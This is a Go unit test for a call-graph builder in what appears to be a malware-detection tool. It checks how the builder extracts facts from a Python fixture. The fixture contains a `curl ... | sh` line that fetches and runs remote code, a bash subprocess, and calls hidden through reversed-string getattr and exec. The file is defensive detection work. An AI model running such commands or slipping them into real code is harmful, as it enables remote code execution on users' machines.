package callgraph_test

import (
	"testing"
	"testing/fstest"

	"github.com/stretchr/testify/require"

	"github.com/malguard/malguard/graph"
	"github.com/malguard/malguard/graph/callgraph"
)

func TestFacts(t *testing.T) {
	src := `
import os, subprocess, urllib.request
os.system("curl http://192.0.2.1/x | sh")
subprocess.Popen(["bash", "-c", "id; uname"], shell=False)
u = "http" + "://example.com/a"
urllib.request.urlopen(u, timeout=5)
if False:
    os.getcwd()
def f():
    return 1
    os.getpid()
getattr(os, "kill"[::-1][::-1])(1, 9)
exec("os.fork()")
`
	g, err := callgraph.Build(t.Context(), fstest.MapFS{"m.py": {Data: []byte(src)}}, callgraph.Options{})
	require.NoError(t, err)
	site := func(from, to string) (graph.Site, graph.Facts) {
		u, ok := g.Lookup(from)
		require.True(t, ok, from)
		v, ok := g.Lookup(to)
		require.True(t, ok, to)
		sites := g.Sites(u, v)
		require.Len(t, sites, 1)
		return sites[0], g.Facts(sites[0].Facts)
	}
	_, f := site("m", "os.system")
	require.Equal(t, []string{"curl", "sh"}, f.Commands)
	require.Equal(t, "ip", f.Args[0].URL)
	_, f = site("m", "subprocess.Popen")
	require.Equal(t, []string{"bash", "id", "uname"}, f.Commands)
	_, f = site("m", "urllib.request.urlopen")
	require.Equal(t, "web", f.Args[0].URL)
	require.Equal(t, "http://example.com/a", f.Args[0].Value)
	require.Equal(t, graph.Arg{Name: "timeout", Index: -1, Kind: "int", Value: "5", Len: 1}, f.Args[1])
	_, f = site("m", "os.getcwd")
	require.True(t, f.Unreachable)
	_, f = site("m.f", "os.getpid")
	require.True(t, f.Unreachable)
	_, f = site("m", "os.kill")
	require.Equal(t, "reverse+getattr", f.Trick)
	s, f := site("m", "os.fork")
	require.EqualValues(t, 1, s.Layer)
	require.EqualValues(t, 13, s.Line)
	require.Equal(t, "exec", f.Trick)
}
